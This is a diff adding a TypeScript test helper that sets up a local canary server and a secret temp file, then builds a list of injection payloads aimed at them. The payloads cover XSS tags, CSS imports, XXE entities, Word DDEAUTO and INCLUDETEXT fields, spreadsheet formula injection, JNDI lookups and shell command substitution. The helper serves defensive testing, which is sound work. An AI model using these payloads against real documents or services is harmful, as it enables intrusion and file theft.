@@ -1,0 +1,68 @@
+import { randomUUID } from 'node:crypto';
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { type AddressInfo, createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+
+/** A server that nobody may reach and a file that nobody may read, with texts that lead there: for tests. */
+export type Canary = {
+  connections: number;
+  /** What the file holds. */
+  secret: string;
+  /** Every way in which a text could make a program do something; each is one line. */
+  payloads: string[];
+  /** Addresses that a link may have, and that nobody may fetch. */
+  addresses: string[];
+  close(): Promise<void>;
+};
+
+export async function openCanary(): Promise<Canary> {
+  const folder = await mkdtemp(join(tmpdir(), 'vitae-canary-'));
+  const secret = `canary-${randomUUID()}`;
+  const file = join(folder, 'secret.txt');
+  await writeFile(file, secret);
+  const server = createServer((socket) => {
+    canary.connections += 1;
+    socket.on('error', () => undefined);
+    socket.end('HTTP/1.1 302 Found\r\nLocation: /again\r\nContent-Length: 0\r\n\r\n');
+  });
+  await new Promise<void>((listening) => server.listen(0, '0.0.0.0', listening));
+  const { port } = server.address() as AddressInfo;
+  const canary: Canary = {
+    connections: 0,
+    secret,
+    payloads: payloadsTo(`127.0.0.1:${port}`, `2130706433:${port}`, file),
+    addresses: [`http://127.0.0.1:${port}/page`, `http://2130706433:${port}/redirect`, `https://localhost:${port}/x`],
+    close: async () => {
+      await new Promise((closed) => server.close(closed));
+      await rm(folder, { recursive: true, force: true });
+    },
+  };
+  return canary;
+}
+
+function payloadsTo(host: string, decimal: string, file: string): string[] {
+  const field = (code: string) => `\u0013 ${code} \u0014shown\u0015`;
+  return [
+    `<script src="http://${host}/s.js"></script><script>fetch("http://${host}/f")</script>`,
+    `"><img src=x onerror="new Image().src='http://${host}/e'"><svg onload="fetch('http://${decimal}/svg')"><image href="http://${host}/i"/></svg>`,
+    `</style><style>@import url(http://${host}/c.css); body{background:url(file://${file})}</style>`,
+    `"; } @font-face { font-family: x; src: url("http://${decimal}/font") } \\"`,
+    `<iframe src="file://${file}"></iframe><link rel="prefetch" href="http://${decimal}/redirect"><meta http-equiv="refresh" content="0;url=http://${host}/m">`,
+    `<object data="http://${host}/o"></object><embed src="file://${file}"><base href="http://${host}/">`,
+    `javascript:fetch('http://${host}/j')`,
+    `]]></w:t></w:r><w:fldSimple w:instr="INCLUDETEXT &quot;${file}&quot;"><w:r><w:t>&xxe;</w:t></w:r></w:fldSimple>`,
+    `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://${file}">]><x>&xxe;</x><?xml-stylesheet href="http://${host}/x.xsl"?>`,
+    field(`INCLUDETEXT "${file}"`),
+    field(`INCLUDEPICTURE "http://${host}/p.png" \\d`),
+    field(`DDEAUTO cmd "/c calc http://${host}/dde"`),
+    field(`HYPERLINK "file://${file}"`),
+    `{INCLUDETEXT "${file}"} {DDEAUTO soffice "${file}"} {=1+1} {IMPORT "http://${host}/i"}`,
+    `<text:section-source xlink:href="file://${file}"/><draw:image xlink:href="http://${host}/d.png"/><text:dde-connection/>`,
+    `=HYPERLINK("http://${host}/h") =WEBSERVICE("http://${host}/w") =cmd|' /C calc'!A0 @SUM(1) +1 -1`,
+    `\\\\${host}\\share\\x.png file://${file} //${host}/x ftp://${host}/f`,
+    'nul\u0000 bell\u0007 escape\u001b[31m delete\u007f c1\u0085\u009b form\u000c vertical\u000b ffff\uffff fffe\ufffe',
+    `half \ud83d of a pair \udc00 and \u202eoverride\u202d \u2066isolate\u2069 \u200f\u061c mark \ufeff bom \u2028 line \u2029 paragraph`,
+    `%s%n %00 \${jndi:ldap://${host}/a} {{7*7}} <%= 7 %> ../../..${file} $(cat ${file}) \`cat ${file}\` ; cat ${file}`,
+  ];
+}
